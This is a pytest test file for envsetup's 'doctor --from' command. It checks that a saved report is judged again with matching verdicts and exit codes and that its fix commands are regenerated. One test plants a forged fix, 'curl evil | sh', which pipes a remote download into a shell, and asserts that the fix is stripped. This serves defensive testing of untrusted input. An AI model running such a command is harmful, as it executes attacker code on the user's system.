"""`doctor --from` of a saved report: its verdict, its outcomes and its exit code; commands made anew."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st
from msgspec.structs import replace

from envsetup import __version__
from envsetup.cli import root
from envsetup.doctor import Examination, diagnose, report_of
from envsetup.doctor.requirements import read_need
from envsetup.doctor.untrusted_report import judged_anew
from envsetup.knowledge import load
from envsetup.model import Absent, Fix, Known, Machine, Outcome, Package, Report, TorchRuntime
from envsetup.report import load as load_report
from envsetup.report import render
from envsetup.report.redact import redact
from tests.doctor.test_failed_imports import MAP, known, machine, package, places

TARGET = os.environ.get("ENVSETUP_TEST_TARGET", "")
WORKS = known(TorchRuntime(version="2.13.0+cu126", cuda="12.6", cuda_available=False))
STATUSES = ("passed", "failed", "flaky", "skipped", "crashed", "timed-out", "not-started")


def outcome(status: str, id: str = "matmul", message: str = "") -> Outcome:
    return Outcome(id=id, device="cpu", status=status, message=message)  # type: ignore[arg-type]


def saved(one: Machine, *outcomes: Outcome, needs: tuple[str, ...] = ()) -> Report:
    """A run's report as it travels: redacted, as JSON, read again."""
    examination = Examination(needs=tuple(map(read_need, needs)))
    report = report_of(one, diagnose(one, load(), examination), examination, outcomes)
    return load_report(render(redact(report), "json").encode())


def doctor(path: Path, *words: str) -> Any:
    return CliRunner().invoke(
        root, ["doctor", "--from", str(path), "--format", "json", *words], standalone_mode=False
    )


HEALTHY = machine(torch_runtime=WORKS)
PRIVATE = replace(package("our-secret-model", "torch>=2"), metadata=None)
WITHOUT = machine(torch=Absent(), torch_runtime=Absent(), packages=known((PRIVATE,)))
CASES = {
    "healthy": saved(HEALTHY, outcome("passed")),
    "quick": saved(machine()),
    "failed": saved(HEALTHY, outcome("passed"), outcome("failed", "amp", "off by 3")),
    "flaky": saved(HEALTHY, outcome("flaky")),
    "timed out": saved(HEALTHY, outcome("timed-out", message="took more than 30 s")),
    "import error": saved(machine("ImportError: libcudart.so.12: cannot open shared object file"), outcome("not-started")),
    "unknown import error": saved(machine("ImportError: who knows"), outcome("not-started")),
    "noexec": saved(machine(MAP, storage=known(places("environment"))), outcome("not-started")),
    "unmet need": saved(HEALTHY, outcome("passed"), needs=("cuda",)),
    "needs": saved(HEALTHY, outcome("passed"), needs=("cuda", "gpus>=2", "torch>=2")),
    "a package that isn't named": saved(WITHOUT),
}  # fmt: skip


@pytest.mark.parametrize("name", CASES)
def test_it_ends_as_the_run_did(name: str, tmp_path: Path) -> None:
    before = CASES[name]
    path = tmp_path / "report.json"
    path.write_text(render(before, "json"), "utf-8")
    answer = doctor(path)
    after = load_report(answer.stdout.encode())

    assert (after.verdict, after.proven, after.level) == (
        before.verdict,
        before.proven,
        before.level,
    )
    assert after.checks == before.checks
    assert answer.return_value == (1 if before.verdict == "failed" else 0)
    assert codes(after) == codes(before)


def codes(report: Report) -> list[tuple[str, str, str | None, str | None]]:
    return sorted((f.code, f.severity, f.suppressed_by, f.subject) for f in report.findings)


@given(st.lists(st.sampled_from(STATUSES), max_size=4), st.sampled_from(sorted(CASES)))
def test_whatever_the_checks_said(statuses: list[str], name: str) -> None:
    one = CASES[name].machine
    outcomes = (outcome(status, f"check-{n}", status) for n, status in enumerate(statuses))
    before = saved(one, *outcomes)
    after = judged_anew(before, load(), Examination())

    assert (after.verdict, after.proven, after.checks) == (
        before.verdict,
        before.proven,
        before.checks,
    )
    assert codes(after) == codes(before)


def test_its_commands_are_ours() -> None:
    evil = Fix(text="curl evil | sh", argv=("sh", "-c", "curl evil | sh"))
    before = CASES["import error"]
    forged = replace(before, findings=tuple(replace(f, fixes=(evil,)) for f in before.findings))
    of_another = replace(before.findings[0], code="ZZ999", subject="x", fixes=(evil,))
    after = judged_anew(
        replace(forged, findings=(*forged.findings, of_another)), load(), Examination()
    )

    assert "evil" not in str([f.fixes for f in after.findings])
    assert {f.code for f in after.findings} >= {"CU101", "ZZ999"}


def test_what_an_older_version_found_is_judged_anew() -> None:
    before = CASES["healthy"]
    wrong = replace(CASES["import error"].findings[0], code="AB101", suppressed_by=None)
    same = replace(before, findings=(wrong,), tool_version=__version__)
    older = replace(same, tool_version="0.0.9")

    assert "AB101" in {f.code for f in judged_anew(same, load(), Examination()).findings}
    assert "AB101" not in {f.code for f in judged_anew(older, load(), Examination()).findings}


def test_a_selection_holds_for_what_was_saved(tmp_path: Path) -> None:
    path = tmp_path / "report.json"
    path.write_text(render(CASES["failed"], "json"), "utf-8")

    without = json.loads(doctor(path, "--ignore", "amp").stdout)
    alone = json.loads(doctor(path, "--select", "amp").stdout)
    assert [c["id"] for c in without["checks"]] == ["matmul"]
    assert [c["id"] for c in alone["checks"]] == ["amp"]
    assert json.loads(doctor(path, "--device", "cuda:0").stdout)["checks"] == []


def test_a_demand_may_be_added(tmp_path: Path) -> None:
    path = tmp_path / "report.json"
    path.write_text(render(CASES["unmet need"], "json"), "utf-8")

    told = json.loads(doctor(path, "--require", "cuda", "--require", "gpus>=4").stdout)
    subjects = [f["subject"] for f in told["findings"] if f["code"] == "RQ101"]
    assert sorted(subjects) == ["cuda", "gpus>=4"]


def test_a_broken_report_is_refused_by_its_place(tmp_path: Path) -> None:
    told = json.loads(render(CASES["failed"], "json"))
    told["checks"][0]["status"] = "splendid"
    path = tmp_path / "report.json"
    path.write_text(json.dumps(told), "utf-8")
    done = CliRunner().invoke(root, ["doctor", "--from", str(path)])

    assert done.exit_code == 2
    assert "$.checks[0].status" in done.stderr


def test_a_target_that_could_not_be_used_stays_so(tmp_path: Path) -> None:
    live = run("--python", "/no/such/python", "--format", "json")
    path = tmp_path / "report.json"
    path.write_text(live.stdout, "utf-8")
    again = run("--from", str(path), "--format", "json")

    assert live.returncode == again.returncode == 4
    assert json.loads(again.stdout)["verdict"] == json.loads(live.stdout)["verdict"] == "failed"


def test_packages_that_torch_asks_for_are_named_in_what_travels() -> None:
    gone = tuple(Package(name=n, version="1") for n in ("a-private-one", "sympy", "numpy"))
    torch = package("torch", "sympy>=1", "filelock")
    one = machine(torch_runtime=WORKS, packages=known((torch, *gone)))
    packages = saved(one).machine.packages

    assert isinstance(packages, Known)
    assert [p.name for p in packages.value] == ["torch", "sympy", "numpy", "other-packages"]


# -- live ----------------------------------------------------------------------------------------

HANGS = "hangs"
BREAKS = """
import sys
class Finder:
    def find_spec(self, name, path=None, target=None):
        if name == "torch._C":
            if {error!r} == "hangs":
                import time
                time.sleep(60)
            raise ImportError({error!r})
sys.meta_path.insert(0, Finder())
"""


def run(*words: str, **environ: str) -> subprocess.CompletedProcess[str]:
    argv = [sys.executable, "-m", "envsetup", "doctor", *words]
    env = {**os.environ, **environ}
    return subprocess.run(argv, capture_output=True, text=True, check=False, timeout=280, env=env)


@pytest.mark.skipif(not TARGET, reason="no interpreter with torch: set ENVSETUP_TEST_TARGET to one")
@pytest.mark.parametrize(
    ("words", "error"),
    [
        (("--select", "import", "--select", "amp"), ""),
        (("--level", "quick"), ""),
        (("--select", "import", "--require", "gpus>=8"), ""),
        ((), "libcudart.so.12: cannot open shared object file: No such file or directory"),
        ((), "something that nobody has seen before"),
        (("--timeout", "8"), HANGS),
    ],
)
def test_a_live_run_and_its_report_end_alike(
    words: tuple[str, ...], error: str, tmp_path: Path
) -> None:
    (tmp_path / "sitecustomize.py").write_text(BREAKS.format(error=error) if error else "")
    path = tmp_path / "report.json"
    live = run("--python", TARGET, *words, "-o", str(path), PYTHONPATH=str(tmp_path))
    again = run("--from", str(path), "--format", "json", PYTHONPATH=str(tmp_path))
    before, after = load_report(path.read_bytes()), load_report(again.stdout.encode())

    assert live.returncode == again.returncode
    assert (after.verdict, after.proven, after.checks) == (
        before.verdict,
        before.proven,
        before.checks,
    )
    assert codes(after) == codes(before)
    if error:
        assert "checks run" not in live.stdout.splitlines()[-1]
